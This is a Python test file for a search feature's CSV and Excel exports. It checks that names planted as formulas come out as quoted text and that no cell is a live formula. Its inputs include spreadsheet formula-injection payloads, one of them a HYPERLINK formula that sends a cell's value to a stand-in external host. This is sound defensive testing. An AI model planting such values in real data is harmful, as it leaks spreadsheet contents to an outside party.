"""The search's CSV and Excel downloads, opened as a spreadsheet opens them: a village's or a person's name
delivered as a formula reads as text with a quote in front, amounts are numbers, no cell is a formula. On
SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
import tinycity
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import update

from risk import spreadsheet
from risk.db import gateway
from risk.db.tables import recipient, region
from risk.identity.numbers import mask_name

NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def live(value: object) -> bool:
    return (isinstance(value, str) and value != "" and value[0] in spreadsheet.TRIGGERS
            and NUMBER.fullmatch(value) is None)


@pytest.fixture
def city(db_url, tmp_path):
    tinycity.build(db_url)
    client = tinycity.web_client(db_url, tmp_path / "var", "city")
    yield db_url, client
    client.close()


def plant(url: str, text: str) -> None:
    """`text` as the name of village v1 and of every person there, as delivered."""
    with gateway.transaction(url) as conn:
        conn.execute(update(region).where(region.c.code == tinycity.VILLAGES["v1"]).values(name=text))
        conn.execute(update(recipient).where(recipient.c.village_code == tinycity.VILLAGES["v1"]).values(name=text))


def downloads(client) -> tuple[list[dict], list[dict], str]:
    """The search's CSV and Excel exports of every alert, as rows keyed by the header, and the sheet's XML."""
    token = tinycity.csrf(client.get("/search").text)
    r = client.post("/search.csv", data={"csrf_token": token})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))  # CR, LF: a new row
    from_csv = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    x = client.post("/search.xlsx", data={"csrf_token": token})
    assert x.status_code == 200
    values = list(load_workbook(io.BytesIO(x.content)).active.values)
    from_xlsx = [dict(zip(values[0], row, strict=True)) for row in values[1:]]
    with zipfile.ZipFile(io.BytesIO(x.content)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode("utf-8")
    return from_csv, from_xlsx, sheet


def check(client, text: str) -> None:
    from_csv, from_xlsx, sheet = downloads(client)
    assert len(from_csv) == len(from_xlsx) == 8  # two alerts in each of four villages
    assert "<f>" not in sheet and "<f " not in sheet  # not one formula cell
    for rows, shown in ((from_csv, text), (from_xlsx, NOT_XML.sub("", text))):  # XML has no place for \x01
        assert not any(live(v) for r in rows for v in r.values()), rows
        v1 = [r for r in rows if r["村代码 village_code"] == tinycity.VILLAGES["v1"]]
        assert len(v1) == 2
        # as delivered, a quote in front if need be
        assert {r["村 village"] or "" for r in v1} == {spreadsheet.cell(shown)}
        masked = mask_name(text) if rows is from_csv else NOT_XML.sub("", mask_name(text))
        assert {r["姓名（脱敏）name (masked)"] or "" for r in v1} == {spreadsheet.cell(masked)}
    assert {r["涉及金额 amount_at_risk"] for r in from_csv} == {"749.40", "749.41"}  # no quote: numbers
    assert {r["涉及金额 amount_at_risk"] for r in from_xlsx} == {749.40, 749.41}  # number cells
    assert {r["已追回 recovered"] for r in from_xlsx} == {0}


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?q="&A1,"点此")', "+1+1", "-1+1", "@SUM(A1:A9)",
                                  "\t=1+1", "\r=1+1", "＝1+1", "甲村\r=1+1", "\x01=1+1"])
def test_a_name_delivered_as_a_formula_is_text_in_both_downloads(city, text):
    url, client = city
    plant(url, text)
    check(client, text)


_CHARS = st.characters(codec="utf-8", exclude_characters="\x00")  # what a database stores
_text = st.one_of(
    st.text(_CHARS, min_size=1, max_size=16),
    st.builds(lambda t, rest: t + rest, st.sampled_from(list(spreadsheet.TRIGGERS)),
              st.text(_CHARS, max_size=16)),
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=_text)
def test_no_cell_of_either_download_is_a_live_formula(city, text):
    url, client = city
    plant(url, text)
    check(client, text)
